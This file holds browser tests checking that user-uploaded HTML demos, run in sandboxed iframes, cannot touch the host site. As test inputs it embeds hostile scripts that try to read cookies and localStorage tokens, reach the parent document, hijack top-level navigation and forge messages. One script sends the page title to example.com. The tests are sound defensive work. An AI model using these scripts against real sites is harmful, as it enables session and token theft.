import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { expect, onTestFinished } from 'vitest';
import { AUTH_HEADER } from '#shared/credentials';
import { fetchTokens } from '#tests/support/app/fetch-tokens';
import type { OwnerCall } from '#tests/support/app/owner-calls';
import { test } from '#tests/support/browser/browser-test';
import { listen } from '#tests/support/listen';

async function storeDemo(url: string, page: string): Promise<string> {
  const { token } = await fetchTokens(url);
  const body = new FormData();
  body.set('file', new Blob([`<!doctype html><title>Demo</title>${page}`]), 'demo.html');
  const response = await fetch(`${url}/api/demo`, {
    method: 'POST',
    headers: { [AUTH_HEADER]: token },
    body,
  });
  return Object(await response.json()).url;
}

/** Publishes a note with the demo and a paragraph before it. Returns its address. */
async function publish(call: OwnerCall, title: string, demo: string): Promise<string> {
  const slug = title.toLowerCase().replaceAll(' ', '-');
  const text = `Before.\n\n[Attack](${demo})\n\n[Life](/projects#demo-life)`;
  await call('POST', '/notes', { title, slug, text, draft: false });
  return `/notes/${slug}`;
}

async function run(page: Page, demo: string) {
  await page.getByText('RunStopAttack').click();
  await expect.poll(() => page.frames().some(frame => frame.url().endsWith(demo))).toBe(true);
  const frame = page.frames().find(each => each.url().endsWith(demo));
  if (!frame) throw new Error('The demo has no frame.');
  return frame;
}

/** Tries to reach the site, and shows the names of the attempts that succeed. */
const ATTACKS = `<a id="top" target="_top" href="/login">a</a><form id="form" action="/login" target="_top"></form>
<p id="reached"></p><script>
const reached = [];
const attempts = {
  cookie: () => document.cookie,
  setCookie: () => (document.cookie = 'owner=x; path=/uploads/'),
  localStorage: () => localStorage.getItem('token'),
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => indexedDB.open('x'),
  parentDocument: () => parent.document.body,
  topDocument: () => top.document.title,
  parentStorage: () => parent.localStorage,
  parentFetch: () => parent.fetch,
  frameElement: () => frameElement.src || undefined,
  popup: () => open('/login') ?? undefined,
  popupOfTop: () => open('/login', '_top') ?? undefined,
  topLocation: () => (top.location.href = '/login'),
  topReplace: () => top.location.replace('/login') ?? 1,
  domain: () => (document.domain = location.hostname),
  confirm: () => confirm('x') || undefined,
  xhr: () => { const r = new XMLHttpRequest(); r.open('GET', '/api/projects', false); r.send(); return r.status; },
  serviceWorker: () => navigator.serviceWorker.controller,
};
const later = {
  fetch: () => fetch('/api/projects', { credentials: 'include' }).then(r => r.status),
  elsewhere: () => fetch('https://example.com', { mode: 'no-cors' }),
  picture: () => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: '/favicon-32.png' })),
  script: () => new Promise((done, fail) => document.head.append(Object.assign(document.createElement('script'), { onload: done, onerror: fail, src: '/manifest.webmanifest' }))),
  cache: () => caches.open('x'),
  worker: () => navigator.serviceWorker.register(location.href),
};
for (const [name, attempt] of Object.entries(attempts)) {
  try { if (attempt() !== undefined) reached.push(name); } catch {}
}
document.getElementById('top').click();
document.getElementById('form').submit();
parent.postMessage({ type: 'token', source: 'react-devtools-content-script' }, '*');
new BroadcastChannel('session').postMessage('signed-out');
const wait = Object.entries(later).map(([name, attempt]) =>
  Promise.resolve().then(attempt).then(() => reached.push(name), () => {}));
Promise.race([Promise.all(wait), new Promise(done => setTimeout(done, 5000))]).then(() => {
  document.getElementById('reached').textContent = origin + ': ' + (reached.join() || 'nothing');
});
</script>`;

test('a demo reaches neither the site of its page, nor its owner, nor other sites', async ({
  site,
  call,
  owner,
  problems,
}) => {
  problems.expect(/./);
  const demo = await storeDemo(site.url, ATTACKS);
  const path = await publish(call, 'Attacks in a frame', demo);
  const page = await owner(path);
  const popups: string[] = [];
  page.context().on('page', opened => popups.push(opened.url()));
  page.on('dialog', dialog => popups.push(dialog.message()));
  const frame = await run(page, demo);
  await expect.poll(() => frame.locator('#reached').innerText()).toBe('null: nothing');
  // A click of the visitor allows no more.
  await frame.locator('#top').click();
  expect(new URL(page.url()).pathname).toBe(path);
  expect(popups).toEqual([]);
  expect(await page.evaluate(() => localStorage.getItem('token'))).toMatch(/^ey/);
  expect((await page.context().cookies()).map(({ value }) => value)).not.toContain('x');
  await page.getByRole('button', { name: 'Close Game of Life' }).waitFor();
});

test('a demo that is opened as a page reaches nothing, either', async ({ site, owner, problems }) => {
  problems.expect(/./);
  const attack = `<p id="reached"></p><script>
    const reached = [];
    for (const attempt of [
      () => document.cookie,
      () => localStorage.length,
      () => indexedDB.open('x'),
      () => open('/login') ?? undefined,
      () => confirm('x') || undefined,
    ]) {
      try { if (attempt() !== undefined) reached.push(String(attempt)); } catch {}
    }
    fetch('/api/projects').then(() => reached.push('fetch'), () => {}).then(() => {
      document.getElementById('reached').textContent = origin + ': ' + (reached.join() || 'nothing');
    });
  </script>`;
  const demo = await storeDemo(site.url, attack);
  const page = await owner('/about');
  await page.goto(site.url + demo);
  await expect.poll(() => page.locator('#reached').innerText()).toBe('null: nothing');
});

test('a frame that leaves the demo stays in the sandbox and on the site', async ({
  site,
  call,
  owner,
  problems,
}) => {
  problems.expect(/./);
  const demo = await storeDemo(
    site.url,
    '<script>location = "https://example.com/?" + document.title</script>',
  );
  const page = await owner(await publish(call, 'Leaving', demo));
  const sent: string[] = [];
  page.on('request', request => sent.push(request.url()));
  await page.getByText('RunStopAttack').click();
  await expect.poll(() => page.frames().some(frame => frame.url().startsWith('chrome-error:'))).toBe(true);
  expect(sent.filter(url => url.includes('example.com'))).toEqual([]);
});

test('a demo that would never end loads when the visitor runs it', async ({ site, call, visitor }) => {
  const demo = await storeDemo(site.url, '<script>for (;;);</script>');
  const page = await visitor();
  const requested: string[] = [];
  page.on('request', request => requested.push(new URL(request.url()).pathname));
  await page.goto(site.url + (await publish(call, 'Never ending', demo)));
  await page.getByText('RunStopAttack').scrollIntoViewIfNeeded();
  await page.getByRole('button', { name: 'Close Game of Life' }).waitFor();
  expect(requested).not.toContain(demo);
});

test('a demo stops when it is closed, and begins again', async ({ site, call, visitor }) => {
  const demo = await storeDemo(
    site.url,
    '<p id="n">0</p><script>setInterval(() => n.textContent++, 20)</script>',
  );
  const page = await visitor(await publish(call, 'Stopping', demo));
  const frame = await run(page, demo);
  await expect.poll(() => frame.locator('#n').innerText().then(Number)).toBeGreaterThan(2);
  await page.getByText('RunStopAttack').press('Enter');
  await expect.poll(() => page.frames().some(each => each.url().endsWith(demo))).toBe(false);
  await page.getByText('RunStopAttack').press('Enter');
  await expect.poll(() => page.frames().some(each => each.url().endsWith(demo))).toBe(true);
});

test('without the headers of the site, a demo shows itself only in a sandbox', async ({ site, visitor }) => {
  const demo = await storeDemo(site.url, '<p>Shown</p><script>document.title = "Ran"</script>');
  const stored = await (await fetch(site.url + demo)).text();
  const host = createServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(request.url === '/demo' ? stored : '<iframe sandbox="allow-scripts" src="/demo"></iframe>');
  });
  const url = `http://localhost:${await listen(host)}`;
  onTestFinished(() => void host.close());
  const page = await visitor(`${url}/demo`);
  expect(await page.locator('body').innerText()).toBe('This demo runs only within its page.');
  expect(await page.title()).toBe('');
  await page.goto(url);
  await page.frameLocator('iframe').getByText('Shown').waitFor();
});

test('a page without scripts has a link to the playground, and can run a demo', async ({
  site,
  call,
  visitor,
}) => {
  const demo = await storeDemo(site.url, '<p>Text of the demo</p>');
  const page = await visitor(await publish(call, 'Without scripts', demo), { javaScriptEnabled: false });
  await page.getByRole('link', { name: 'Life' }).waitFor();
  await page.getByText('RunStopAttack').click();
  await page.frameLocator('.demo iframe').getByText('Text of the demo').waitFor();
});
